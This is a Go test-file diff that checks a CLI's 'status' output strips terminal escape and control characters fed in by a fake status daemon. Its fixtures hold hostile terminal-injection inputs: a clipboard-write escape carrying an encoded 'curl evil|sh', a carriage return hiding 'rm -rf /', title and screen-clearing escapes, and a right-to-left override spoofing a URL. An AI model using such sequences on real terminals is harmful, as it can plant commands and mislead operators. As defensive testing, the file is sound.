@@ -1,12 +1,17 @@
 package main
 
 import (
+	"bufio"
 	"bytes"
 	"encoding/base64"
+	"net"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/kscloud/kscloud/internal/hookapi"
 )
 
 const samples = "../../test/samples/eucalyptus"
@@ -71,5 +76,69 @@ func TestCheck(t *testing.T) {
 	code, out, stderr := runCLI("check", "--config", cfg, "--print")
 	if code != 0 || !strings.Contains(out, `vnc = "loopback"`) {
 		t.Fatalf("exit %d: %s %s", code, out, stderr)
+	}
+}
+
+// statusDaemon answers every request on a fresh unix socket with resp, as
+// nchookd serve would for instances whose console and user-data carry
+// terminal escapes.
+func statusDaemon(t *testing.T, resp hookapi.Response) string {
+	t.Helper()
+	sock := filepath.Join(t.TempDir(), "s.sock")
+	ln, err := net.Listen("unix", sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			if _, err := hookapi.ReadRequest(bufio.NewReader(c)); err == nil {
+				hookapi.WriteResponse(c, &resp)
+			}
+			c.Close()
+		}
+	}()
+	return sock
+}
+
+// TestStatusEscapes: what a guest prints on its console and what a tenant
+// puts in bootparams reach the operator's terminal without a single escape
+// or control character, and format characters (RLO) show as \u202e.
+func TestStatusEscapes(t *testing.T) {
+	st := hookapi.InstanceStatus{Phase: "failed", StartedAt: time.Now(),
+		Reason:    "installer failed: \x1b]52;c;Y3VybCBldmlsfHNo\x07Traceback (most recent call last)",
+		Progress:  "\x1b]0;root@node\x07installing \x1b[2J\x1b[Hpackages 3/9",
+		LastLines: []string{"ok\rrm -rf /", "\x1bP+q\x1b\\dcs", "\u009b31mred"}}
+	st.Instance, st.Mode = "i-1234ABCD", "bake"
+	st.Cmdline = "inst.ks=http://10.0.0.1/\u202egfc.sk ip=dhcp"
+	st.Notes = []string{"note\x1b[8mhidden"}
+	sock := statusDaemon(t, hookapi.Response{OK: true, Instances: []hookapi.InstanceStatus{st}})
+	t.Setenv(hookapi.EnvSocket, sock)
+	for _, args := range [][]string{{"status", "--config", "/dev/null"}, {"status", "--config", "/dev/null", "i-1234ABCD"}, {"status", "--config", "/dev/null", "--json"}} {
+		code, out, stderr := runCLI(args...)
+		if code != 0 {
+			t.Fatalf("%v: exit %d: %s", args, code, stderr)
+		}
+		for _, bad := range []string{"\x1b", "\\u001b", "\x07", "\r", "\u009b", "\u202e"} {
+			if strings.Contains(out, bad) {
+				t.Errorf("%v: output holds %q:\n%s", args, bad, out)
+			}
+		}
+		if len(args) == 3 { // the list: instance, mode, phase, reason
+			if !strings.Contains(out, "installer failed: Traceback") {
+				t.Errorf("%v: output lost the reason:\n%s", args, out)
+			}
+		} else if !strings.Contains(out, `\u202e`) || !strings.Contains(out, "packages 3/9") || !strings.Contains(out, "okrm -rf /") {
+			t.Errorf("%v: output lost text or the escaped RLO:\n%s", args, out)
+		}
+	}
+	sock = statusDaemon(t, hookapi.Response{Error: "no instance \x1b]0;pwned\x07x"})
+	t.Setenv(hookapi.EnvSocket, sock)
+	if code, _, stderr := runCLI("status", "--config", "/dev/null", "x"); code != 1 || strings.ContainsAny(stderr, "\x1b\x07") {
+		t.Fatalf("error answer: exit %d, stderr %q", code, stderr)
 	}
 }
